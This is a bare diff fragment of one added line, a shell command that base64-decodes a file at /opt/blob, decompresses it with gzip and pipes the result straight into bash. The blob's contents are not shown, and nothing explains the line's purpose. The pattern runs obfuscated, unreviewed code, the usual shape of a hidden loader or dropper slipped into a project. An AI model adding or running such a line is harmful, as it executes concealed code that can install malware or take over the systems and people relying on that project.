@@ -1,0 +1,1 @@
+base64 -d < /opt/blob | gzip -dc | bash
